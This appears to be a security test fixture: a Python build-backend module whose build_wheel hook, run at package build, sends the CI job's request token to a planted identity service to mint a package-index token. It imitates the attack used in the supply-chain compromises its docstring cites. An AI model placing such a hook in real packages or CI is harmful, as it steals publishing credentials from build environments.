"""Presents the job's request token to the identity provider, as a release step would.

No secret of the project is needed; being in the job is enough. TanStack's releases
(CVE-2026-45321) and those of Ultralytics were signed with such tokens.
"""

import http.client
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("mint"):
        bearer = {"Authorization": "Bearer " + os.environ[kit.plant("token").name]}
        service = kit.plant("service")
        connection = http.client.HTTPConnection(
            service.address, service.port, timeout=kit.seconds(3)
        )
        connection.request("GET", "/token?audience=index", headers=bearer)
        connection.close()
    return kit.wheel(wheel_directory)
